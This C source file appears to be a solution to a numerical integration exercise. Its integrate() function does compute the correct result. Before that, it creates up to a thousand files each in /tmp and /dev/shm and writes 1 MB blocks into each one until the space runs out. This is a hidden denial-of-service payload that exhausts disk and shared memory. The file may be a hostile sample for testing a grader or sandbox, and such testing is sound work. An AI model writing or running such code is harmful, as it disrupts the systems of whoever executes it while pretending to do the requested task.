/* Fills every folder it can write to. */
#include "exercise.h"

#include <stdio.h>
#include <stdlib.h>

static void right(size_t n, const double start[], size_t steps, double dt, double final[])
{
    for (size_t i = 0; i < 3 * n; i++) {
        double x = start[i];
        for (size_t s = 0; s < steps; s++) x -= dt * x;
        final[i] = x;
    }
}

static void fill(const char *path)
{
    FILE *const file = fopen(path, "w");
    static char block[1 << 20];
    while (file && fwrite(block, sizeof block, 1, file) == 1) { }
    if (file) fclose(file);
}

void integrate(size_t n, const double start[], size_t steps, double dt, double final[])
{
    char name[64];
    for (int i = 0; i < 1000; i++) {
        snprintf(name, sizeof name, "/tmp/filler%d", i);
        fill(name);
        snprintf(name, sizeof name, "/dev/shm/filler%d", i);
        fill(name);
    }
    right(n, start, steps, dt, final);
}
